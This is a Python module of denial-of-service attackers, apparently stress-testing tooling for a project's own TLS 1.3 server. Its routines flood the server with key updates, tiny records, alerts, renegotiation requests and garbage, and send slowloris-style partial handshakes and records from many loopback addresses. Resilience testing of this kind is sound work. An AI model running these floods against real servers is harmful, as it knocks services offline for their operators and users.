"""Attackers of `floods.py --records`: each is a process that sends what costs a server most below its messages.

They use what TLS 1.3 allows (new keys, tiny records, alerts, ClientHellos), and what it does not, from one address or
from another one for each connection.
"""

import os
import random
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

import msgpack
from _flooders import SERVER, client_hello

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
from tests.support.tls import (
    ALERT,
    CHANGE_CIPHER_SPEC,
    CLIENT_HELLO,
    HANDSHAKE,
    RecordingClient,
    RecordWriter,
    plain_record,
)

_READY: Final = 60_000
"""Key updates that are made in advance: to make one costs an attacker as much as it costs the server."""
_HELLO: Final = msgpack.packb([0, 0, "hello", [{"protocol": 1}]])
_ENDLESS: Final = b"\xdd\x00\x00\x10\x00"
"""Beginning of a message of 4,096 values."""
MANY: Final = "many"
"""In the place of an address: 65,000 addresses of this machine."""

Parts = Iterator[bytes]


def run_attack(kind: str, port: int, address: str) -> None:
    """Attack from an address, or with `MANY` from another one for each connection, until this process is ended.

    Prints a line when it begins.
    """
    if kind == "burn":
        print("attacking", flush=True)
        while True:
            pass
    makes = _ATTACKS[kind]
    ready: list[bytes] = []
    print("attacking", flush=True)
    while True:
        with suppress(OSError, ssl.SSLError, ValueError), _connect_from(port, address) as line:
            makes(line, ready)
        time.sleep(0.001)


def _connect_from(port: int, address: str) -> socket.socket:
    line = socket.socket()
    line.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    line.bind((address if address != MANY else f"127.{random.randint(1, 254)}.{random.randint(0, 255)}.7", 0))
    line.settimeout(10)
    line.connect((SERVER, port))
    return line


def _shake_hands(line: socket.socket, *, greets: bool = True) -> RecordWriter:
    writer = RecordingClient().shake_hands(line.sendall, lambda: _receive_some(line))
    if greets:
        line.sendall(writer.record(_HELLO))
        _receive_some(line)
    return writer


def _receive_some(line: socket.socket) -> bytes:
    data = line.recv(1 << 16)
    if not data:
        raise ConnectionResetError
    return data


def _send_all(line: socket.socket, parts: Parts, *, reads: bool = False) -> None:
    """Send until the server ends the connection."""
    for part in parts:
        line.sendall(part)
        if reads:
            line.setblocking(False)
            with suppress(BlockingIOError):
                while line.recv(1 << 18):
                    pass
            line.settimeout(10)


def _send_key_updates(line: socket.socket, _: list[bytes], *, asks: bool = False) -> None:
    writer = _shake_hands(line)
    made = b"".join(writer.key_update(asks=asks) for _ in range(_READY))
    _send_all(line, iter([made]), reads=asks)
    _send_all(line, iter(lambda: b"".join(writer.key_update(asks=asks) for _ in range(200)), b""), reads=asks)


def _send_tiny_records(line: socket.socket, _: list[bytes]) -> None:
    writer = _shake_hands(line)
    frame = [writer.record(bytes([each])) for each in _ENDLESS]
    _send_all(line, iter(frame))
    _send_all(line, iter(lambda: b"".join(writer.record(b"\x01") for _ in range(1000)), b""))


def _send_alerts(line: socket.socket, _: list[bytes]) -> None:
    writer = _shake_hands(line)
    _send_all(line, iter(lambda: writer.record(b"\x01\x5a", ALERT) * 100, b""))


def _ask_renegotiation(line: socket.socket, _: list[bytes]) -> None:
    writer = _shake_hands(line)
    _send_all(line, iter(lambda: writer.record(CLIENT_HELLO, HANDSHAKE), b""))


def _send_garbage(line: socket.socket, _: list[bytes]) -> None:
    _shake_hands(line)
    _send_all(line, iter(lambda: plain_record(os.urandom(16_000), 23), b""))


def _send_cipher_changes(line: socket.socket, ready: list[bytes]) -> None:
    """Changes of the cipher, which TLS 1.3 ignores, behind the ClientHello."""
    ready = ready or [client_hello()]
    line.sendall(ready[0])
    _send_all(line, iter(lambda: plain_record(b"\x01", CHANGE_CIPHER_SPEC) * 1000, b""))


def _begin_handshakes(line: socket.socket, ready: list[bytes]) -> None:
    if not ready:
        ready.append(client_hello())
    line.sendall(ready[0])
    line.recv(1 << 16)


def _finish_handshakes(line: socket.socket, _: list[bytes]) -> None:
    _shake_hands(line)


def _send_half_handshakes(line: socket.socket, ready: list[bytes]) -> None:
    """A ClientHello in pieces of a byte, on as many connections as wait for the rest."""
    if not ready:
        ready.append(client_hello())
    line.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for at in range(len(ready[0]) - 1):
        line.sendall(ready[0][at : at + 1])


def _send_half_records(line: socket.socket, _: list[bytes]) -> None:
    """The header of a long record, and then a byte at a time."""
    _shake_hands(line)
    line.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    _send_all(line, iter([b"\x17\x03\x03\x40\x00"]))
    _send_all(line, iter([b"\x00"] * 16_000))


def _send_half_frames(line: socket.socket, _: list[bytes]) -> None:
    """Bytes of a message that is never complete, in plain text."""
    line.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    line.sendall(_HELLO)
    _receive_some(line)
    line.sendall(_ENDLESS)
    _send_all(line, iter([b"\x01"] * 4_000))


def _open_connections(line: socket.socket, _: list[bytes]) -> None:
    """Connections that say nothing."""
    line.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")


def _send_hellos(line: socket.socket, _: list[bytes]) -> None:
    """New guests, one after the other."""
    line.sendall(_HELLO)
    _receive_some(line)


def _send_requests(line: socket.socket, _: list[bytes]) -> None:
    """As many requests as the server takes, by TLS."""
    writer = _shake_hands(line)
    pings: Any = b"".join(msgpack.packb([0, n, "ping", [{"payload": "x" * 100}]]) for n in range(100))
    _send_all(line, iter(lambda: writer.record(pings), b""), reads=True)


_ATTACKS: Final[dict[str, Callable[[socket.socket, list[bytes]], None]]] = {
    "keyupdate": _send_key_updates,
    "keyupdate-asks": lambda line, ready: _send_key_updates(line, ready, asks=True),
    "tiny": _send_tiny_records,
    "alerts": _send_alerts,
    "renegotiation": _ask_renegotiation,
    "garbage": _send_garbage,
    "cipher-changes": _send_cipher_changes,
    "handshakes": _begin_handshakes,
    "whole-handshakes": _finish_handshakes,
    "half-handshakes": _send_half_handshakes,
    "half-records": _send_half_records,
    "half-frames": _send_half_frames,
    "connections": _open_connections,
    "hellos": _send_hellos,
    "requests": _send_requests,
}
ATTACKS: Final = tuple(_ATTACKS)
